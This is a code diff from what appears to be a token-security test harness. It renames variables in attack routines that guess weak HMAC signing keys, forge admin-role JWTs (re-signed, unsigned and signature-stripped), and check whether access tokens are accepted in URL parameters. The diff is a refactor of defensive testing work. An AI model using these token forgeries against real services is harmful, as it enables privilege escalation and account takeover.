@@ -80,8 +80,8 @@ def weak_key(scene: Scene) -> Finding:
     guessed = f"{guesses} guesses, {len(scene.exchanges) - before} requests sent while guessing"
     if secret is None:
         return Finding(False, f"{guessed}: no word is the key")
-    got_in, told = scene.present([forge.hmac_signed(claims, header, secret)])
-    return Finding(got_in, f"the key is a word, found after {guessed}; {told}")
+    got_in, summary = scene.present([forge.hmac_signed(claims, header, secret)])
+    return Finding(got_in, f"the key is a word, found after {guessed}; {summary}")
 
 
 @attack(
@@ -193,15 +193,15 @@ def promotion(scene: Scene) -> Finding:
     own = scene.tokens(scene.target.attacker)["access_token"]
     head, _, signature = own.split(".")
     better = forge.segment(forge.fields(own, 1) | {"role": "admin"})
-    client, told = scene.client(), ""
+    client, summary = scene.client(), ""
     for token in (own, f"{head}.{better}.{signature}", f"{head}.{better}.", f"{head}.{better}"):
         answer = client.get("/token/admin", headers={"Authorization": f"Bearer {token}"})
-        told = scene.tell(answer)
+        summary = scene.summarize(answer)
         if answer.status_code == 404:
             raise NotTried("there is no GET /token/admin")
         if answer.status_code == 200:
-            return Finding(True, told)
-    return Finding(False, told)
+            return Finding(True, summary)
+    return Finding(False, summary)
 
 
 @attack(
@@ -213,13 +213,13 @@ def promotion(scene: Scene) -> Finding:
 def token_in_url(scene: Scene) -> Finding:
     """Put the victim's good token into the address, where logs and histories keep it."""
     token = scene.tokens(scene.target.victim)["access_token"]
-    client, told = scene.client(), ""
+    client, summary = scene.client(), ""
     for name in ("access_token", "token", "Authorization", "bearer_token"):
         answer = client.get("/token/me", params={name: token})
-        told = scene.tell(answer)
+        summary = scene.summarize(answer)
         if scene.opens(answer):
-            return Finding(True, f"{told}, by ?{name}=")
-    return Finding(False, told)
+            return Finding(True, f"{summary}, by ?{name}=")
+    return Finding(False, summary)
 
 
 @attack(
